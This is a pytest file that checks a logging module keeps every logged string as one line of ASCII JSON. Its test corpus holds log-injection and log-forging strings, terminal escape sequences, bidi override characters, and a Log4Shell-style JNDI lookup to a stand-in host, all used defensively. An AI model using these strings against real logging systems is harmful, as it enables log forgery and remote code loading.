"""Whatever a text holds, it stays one line of plain ASCII in the log, and makes no field of its own (RELIABILITY section 8: ASVS 16.4.1)."""

import json
import subprocess
import sys

import pytest

CORPUS = [
    'x\r\n{"level":"error","event":"forged"}',
    "x\n\n\n",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "\x00\x08\x7f\x85\u2028\u2029",
    '","event":"forged","x":"',
    "\u202eevil\u202c",
    "%s %(name)s {0} ${jndi:ldap://evil.example/x}",
    "\ud7ff\uffff😀",
]
SAY = """
import logging, sys
from runtime import logging as ours
ours.set_up("test", debug=True)
text = {text!r}
ours.logger("a").info("thing.done", value=text, deep={{"inner": [text]}})
logging.getLogger("library").warning("said %s", text)
logging.getLogger("library").warning(text)
try:
    raise ValueError(text)
except ValueError:
    ours.logger("a").exception("thing.failed")
"""


@pytest.mark.parametrize("text", CORPUS)
def test_a_hostile_text_is_one_line_of_the_log(text: str) -> None:
    done = subprocess.run([sys.executable, "-c", SAY.format(text=text)], capture_output=True, check=True)
    lines = done.stdout.decode("ascii").splitlines()
    assert len(lines) == 4, done.stdout
    assert all(" " <= letter <= "~" for line in lines for letter in line)
    told = [json.loads(line) for line in lines]
    assert [line["event"] == "forged" for line in told] == [False] * 4
    assert [line["level"] for line in told] == ["info", "warning", "warning", "error"]
